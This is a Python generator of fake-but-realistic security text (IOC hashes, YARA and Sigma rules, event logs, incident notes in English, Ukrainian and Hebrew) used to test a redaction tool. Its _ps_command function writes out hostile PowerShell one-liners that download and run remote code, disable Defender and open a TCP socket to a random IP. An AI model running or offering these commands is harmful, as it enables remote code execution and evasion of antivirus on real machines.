"""Benign look-alikes: indicators of compromise, detection content and incident notes."""

from __future__ import annotations

import base64
from random import Random

from tests.redact.lookalike51.gen import (
    B64STD,
    B64URL,
    Kind,
    b64_of,
    hexs,
    iso,
    num,
    pick,
    ulid,
    uuid4,
)
from tests.redact.lookalike51.true_secrets import host

_FILES = (
    "invoice_2031_10.iso",
    "update.dll",
    "ScreenConnect.ClientSetup.exe",
    "rclone.exe",
    "AnyDesk.exe",
    "lsass.dmp.zip",
    "Дія_оновлення.exe",
    "חשבונית.lnk",
    "vcruntime140_1.dll",
    "OneDriveStandaloneUpdater.exe",
)


def _file(r: Random) -> str:
    return r.choice(_FILES)


def _sha256(r: Random) -> dict[str, str]:
    h1 = hexs(r, 64)
    return {
        "h1": h1,
        "h2": hexs(r, 64),
        "h3": hexs(r, 64),
        "HU": h1.upper(),
        "f1": _file(r),
        "f2": _file(r),
        "f3": _file(r),
        "vt": str(r.randint(3, 64)),
    }


def _hashes(r: Random) -> dict[str, str]:
    bs = r.choice((768, 1536, 3072, 6144, 12288))
    return {
        "md5": hexs(r, 32),
        "sha1": hexs(r, 40),
        "imp": hexs(r, 32),
        "ss": f"{bs}:{pick(r, B64STD, r.randint(40, 64))}:{pick(r, B64STD, r.randint(20, 40))}",
        "tlsh": "T1" + hexs(r, 70).upper(),
        "file": _file(r),
        "n": str(r.randint(3, 12)),
    }


_RULE_HEADS = ("APT_RU_Sandworm_", "MAL_Win_", "HKTL_", "SUSP_PS1_", "CRIME_Stealer_", "SHM_Kyiv_")
_RULE_TAILS = (
    "Industroyer2_Loader",
    "RemcosRAT_Config",
    "Mimikatz_Strings",
    "Encoded_IEX",
    "Lumma_Stealer",
    "CaddyWiper",
    "SmokeLoader_Unpacked",
    "AcidRain_ELF",
)
_YARA_STRINGS = (
    "System.Reflection.Assembly",
    "VirtualAllocEx",
    "kernel32.dll",
    "Invoke-Expression",
    "sekurlsa::logonpasswords",
    "\\\\.\\PhysicalDrive0",
    "WScript.Shell",
)


def _hexbytes(r: Random, n: int) -> str:
    return " ".join(hexs(r, 2).upper() for _ in range(n))


def _yara(r: Random) -> dict[str, str]:
    return {
        "name": r.choice(_RULE_HEADS) + r.choice(_RULE_TAILS) + f"_{r.randint(1, 9)}",
        "dd": f"{r.randint(1, 31):02d}",
        "h": hexs(r, 64),
        "hexbytes": _hexbytes(r, r.randint(10, 16)),
        "hexbytes2": _hexbytes(r, r.randint(8, 12)).replace(" ", "").lower(),
        "b64str": b64_of(r.choice(_YARA_STRINGS)),
        "path": r.choice(
            ("C:\\ProgramData\\", "C:\\Users\\Public\\", "/tmp/.", "C:\\Windows\\Temp\\")
        )
        + _file(r),
        "agt": "agt_" + ulid(r),
        "off": hexs(r, 8),
    }


def _network(r: Random) -> dict[str, str]:
    a, b, c = r.randint(1, 254), r.randint(0, 255), r.randint(1, 254)
    return {
        "dom": r.choice(
            ("update-check", "cdn-telemetry", "msoffice-sync", "diia-gov", "okta-sso-login")
        )
        + "-"
        + pick(r, "abcdefghijklmnopqrstuvwxyz", 4),
        "tld": r.choice(("top", "xyz", "com", "online", "site")),
        "path": "api/v2/" + pick(r, B64URL, 24),
        "ip": f"{r.choice(('185', '45', '91', '193'))}.{a}.{b}[.]{c}",
        "lip": f"10.{r.randint(0, 40)}.{r.randint(0, 255)}.{r.randint(1, 254)}",
        "ja3": hexs(r, 32),
        "ja3s": hexs(r, 32),
        "h12": hexs(r, 12),
        "flow": num(r, 16),
        "sid": num(r, 7),
        "ts": iso(r, "+0300").replace("T", "T").replace("+0300", ".000000+0300"),
    }


_TECH = (
    ("1003", "001"),
    ("1059", "001"),
    ("1547", "001"),
    ("1218", "011"),
    ("1055", "012"),
    ("1021", "002"),
    ("1562", "001"),
    ("1566", "001"),
)
_TITLES = (
    "LSASS Dump via comsvcs.dll",
    "Encoded PowerShell From Office Child",
    "Rundll32 Without DLL",
    "Run Key Persistence From Temp",
    "Defender Tamper via Set-MpPreference",
)


def _rules(r: Random) -> dict[str, str]:
    tech, sub = r.choice(_TECH)
    return {
        "tech": tech,
        "sub": sub,
        "uuid": uuid4(r),
        "grp": hexs(r, 32),
        "pat": num(r, 5),
        "title": r.choice(_TITLES),
        "bin": r.choice(("rundll32.exe", "powershell.exe", "reg.exe", "procdump64.exe")),
        "d": f"2031/10/{r.randint(1, 31):02d}",
    }


def _guid(r: Random) -> str:
    return uuid4(r).upper()


def _windows(r: Random) -> dict[str, str]:
    return {
        "a": str(r.randint(1_000_000_000, 4_294_967_295)),
        "b": str(r.randint(1_000_000_000, 4_294_967_295)),
        "c": str(r.randint(1_000_000_000, 4_294_967_295)),
        "rid": str(r.randint(1000, 9999)),
        "lid": hexs(r, r.choice((6, 7, 8))).upper(),
        "host": host(r),
        "svc": pick(r, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ", r.randint(8, 12)),
        "GUID": _guid(r),
        "GUID2": _guid(r),
        "p": str(r.randint(0, 9)),
        "rec": num(r, 7),
    }


def _ps_command(r: Random) -> str:
    ip = f"{r.randint(45, 212)}.{r.randint(0, 255)}.{r.randint(0, 255)}.{r.randint(1, 254)}"
    port = r.choice(("8080", "443", "4444", "8443"))
    name = pick(r, "abcdefghijklmnopqrstuvwxyz", 6)
    return r.choice(
        (
            f"IEX (New-Object Net.WebClient).DownloadString('http://{ip}:{port}/{name}.ps1')",
            f"Invoke-WebRequest -Uri http://{ip}:{port}/{name} -OutFile $env:TEMP\\{name}.exe",
            f"Set-MpPreference -DisableRealtimeMonitoring $true; Start-Process "
            f"$env:TEMP\\{name}.exe",
            f"$c=New-Object Net.Sockets.TCPClient('{ip}',{port});$s=$c.GetStream()",
        )
    )


def _powershell(r: Random) -> dict[str, str]:
    plain = _ps_command(r)
    return {
        "plain": plain,
        "enc": base64.b64encode(plain.encode("utf-16-le")).decode(),
        "h": hexs(r, 64),
        "host": host(r),
        "pid": str(r.randint(1000, 65000)),
    }


def _notes(r: Random) -> dict[str, str]:
    def hm() -> str:
        return f"{r.randint(0, 23):02d}:{r.randint(0, 59):02d}"

    return {
        "aid": hexs(r, 32),
        "h": hexs(r, 64),
        "det": num(r, 11),
        "host": host(r),
        "agt": "agt_" + ulid(r),
        "t1": hm(),
        "t2": hm(),
        "t3": hm(),
        "date": f"2031-10-{r.randint(1, 31):02d}",
        "shard": "shardId-" + str(r.randint(0, 31)).zfill(12),
        "seq": "49" + num(r, 54),
        "qid": f"01{hexs(r, 6)}-0{hexs(r, 3)}-{hexs(r, 4)}-0000-{hexs(r, 12)}",
        "story": hexs(r, 16).upper(),
    }


IOCS: tuple[Kind, ...] = (
    Kind(
        "sha256_file_hashes",
        (
            "| file | sha256 | verdict |\n|---|---|---|\n| ⟨f1⟩ | ⟨h1⟩ | malicious |\n"
            "| ⟨f2⟩ | ⟨h2⟩ | clean |\n| ⟨f3⟩ | ⟨h3⟩ | PUP |",
            "SHA256 (⟨f1⟩) = ⟨h1⟩",
            "⟨h1⟩  ⟨f1⟩\n⟨h2⟩  ⟨f2⟩",
            "Хеш дропера з фішингу (SHA-256): ⟨h1⟩ — на VirusTotal ⟨vt⟩/72",
            "PS> Get-FileHash .\\⟨f1⟩\n\nAlgorithm       Hash"
            "                                                                   Path\n"
            "---------       ----"
            "                                                                   ----\n"
            "SHA256          ⟨HU⟩       C:\\Users\\Public\\⟨f1⟩",
        ),
        _sha256,
    ),
    Kind(
        "md5_sha1_fuzzy_hashes",
        (
            "md5 ⟨md5⟩ / sha1 ⟨sha1⟩ — ⟨file⟩ (unsigned)",
            "imphash ⟨imp⟩ matches the Kyiv cluster (⟨n⟩ samples)",
            "ssdeep ⟨ss⟩\nTLSH ⟨tlsh⟩",
            "| md5 | sha1 | שם הקובץ |\n|---|---|---|\n| ⟨md5⟩ | ⟨sha1⟩ | ⟨file⟩ |",
            "$ md5sum ⟨file⟩\n⟨md5⟩  ⟨file⟩",
        ),
        _hashes,
    ),
    Kind(
        "yara_rules_and_hits",
        (
            'rule ⟨name⟩ {\n  meta:\n    author = "shomera-research"\n    date = "2031-10-⟨dd⟩"\n'
            '    hash = "⟨h⟩"\n  strings:\n    $s1 = { ⟨hexbytes⟩ }\n    $s2 = "⟨b64str⟩" ascii\n'
            "  condition:\n    uint16(0) == 0x5A4D and all of them\n}",
            "YARA hit: ⟨name⟩ on ⟨path⟩ (agent ⟨agt⟩)",
            "$ yara -s rules/⟨name⟩.yar sample.bin\n⟨name⟩ sample.bin\n0x⟨off⟩:$s1: ⟨hexbytes2⟩",
            "Правило ⟨name⟩ дає FP на ⟨path⟩ — треба додати умову filesize < 2MB",
        ),
        _yara,
    ),
    Kind(
        "network_iocs",
        (
            "C2: hxxps://⟨dom⟩[.]⟨tld⟩/⟨path⟩ (⟨ip⟩)",
            "JA3 ⟨ja3⟩ / JA3S ⟨ja3s⟩ / JA4 t13d1516h2_8daaf6152771_⟨h12⟩ — beacon every 60s",
            '{"timestamp":"⟨ts⟩","flow_id":⟨flow⟩,"event_type":"alert","src_ip":"⟨lip⟩",'
            '"dest_ip":"⟨ip⟩","alert":{"signature_id":⟨sid⟩,'
            '"signature":"ET MALWARE Cobalt Strike Beacon '
            'Observed"},"tls":{"ja3":{"hash":"⟨ja3⟩"}}}',
            "| IOC | тип |\n|---|---|\n| ⟨ip⟩ | IPv4 |\n| ⟨dom⟩[.]⟨tld⟩ | домен |\n| ⟨ja3⟩ | JA3 |",
            "הדומיין ⟨dom⟩[.]⟨tld⟩ נרשם לפני 3 ימים, URI /⟨path⟩",
        ),
        _network,
    ),
    Kind(
        "detection_rule_ids",
        (
            "Rule «⟨title⟩» (Sigma id ⟨uuid⟩) maps to T⟨tech⟩.⟨sub⟩",
            "title: ⟨title⟩\nid: ⟨uuid⟩\nstatus: experimental\nauthor: Shomera Research\n"
            "date: ⟨d⟩\nlogsource:\n  product: windows\n  category: process_creation\n"
            "detection:\n  selection:\n    Image|endswith: '\\⟨bin⟩'\n  condition: selection\n"
            "tags:\n  - attack.t⟨tech⟩.⟨sub⟩",
            "Custom IOA rule group ⟨grp⟩, pattern_id ⟨pat⟩ — disabled in the Kyiv-Lab host group",
            "הכלל ⟨title⟩ (⟨uuid⟩) יורה על כל ריצה של ⟨bin⟩ — להוסיף exclusion",
        ),
        _rules,
    ),
    Kind(
        "windows_artifacts",
        (
            "Event 4624: TargetUserSid S-1-5-21-⟨a⟩-⟨b⟩-⟨c⟩-⟨rid⟩, TargetLogonId 0x⟨lid⟩, host "
            "⟨host⟩",
            "Event 7045: service '⟨svc⟩' installed, ImagePath %SystemRoot%\\⟨svc⟩.exe, "
            "StartType auto",
            'reg query "HKLM\\SOFTWARE\\Classes\\CLSID\\{⟨GUID⟩}\\InprocServer32" — COM hijack',
            "MSI ProductCode {⟨GUID⟩}, UpgradeCode {⟨GUID2⟩} — shomera-agent 5.12.⟨p⟩",
            "Ключ Run: HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\⟨svc⟩ -> "
            "C:\\Users\\Public\\⟨svc⟩.exe (EventRecordID ⟨rec⟩)",
        ),
        _windows,
    ),
    Kind(
        "powershell_encoded_commands",
        (
            "CommandLine: powershell.exe -NoP -W Hidden -Enc ⟨enc⟩",
            '{"process":"powershell.exe","pid":⟨pid⟩,"parent":"WINWORD.EXE",'
            '"cmdline":"powershell -enc ⟨enc⟩","sha256":"⟨h⟩"}',
            "Декодований -enc з алерту: `⟨plain⟩`\nОригінал: ⟨enc⟩",
            "ה-payload ב-ScriptBlock (4104) הוא ⟨enc⟩ — אותו loader כמו ב-⟨host⟩",
        ),
        _powershell,
    ),
    Kind(
        "multilingual_incident_notes",
        (
            "Хронологія (⟨date⟩):\n- ⟨t1⟩ алерт ldt:⟨aid⟩:⟨det⟩ на ⟨host⟩\n- ⟨t2⟩ ізоляція хоста\n"
            "- ⟨t3⟩ зібрали артефакти, sha256 ⟨h⟩\n- висновок: паролі не скомпрометовано,"
            " токени не ротуємо",
            "| שעה | מה קרה | מזהה |\n|---|---|---|\n| ⟨t1⟩ | התראה | ⟨det⟩ |\n"
            "| ⟨t2⟩ | בידוד | ⟨aid⟩ |\n| ⟨t3⟩ | hash | ⟨h⟩ |",
            "Postmortem draft (⟨date⟩): root cause was Kinesis ⟨shard⟩ throttling; first failed "
            "sequence ⟨seq⟩; Snowflake load query ⟨qid⟩ retried 3x; no credentials involved.",
            "Kyiv → TLV handover: host ⟨host⟩ (agent ⟨agt⟩) ще в ізоляції; "
            "הלקוח ביקש דוח עד ⟨date⟩; S1 storyline ⟨story⟩",
        ),
        _notes,
    ),
)
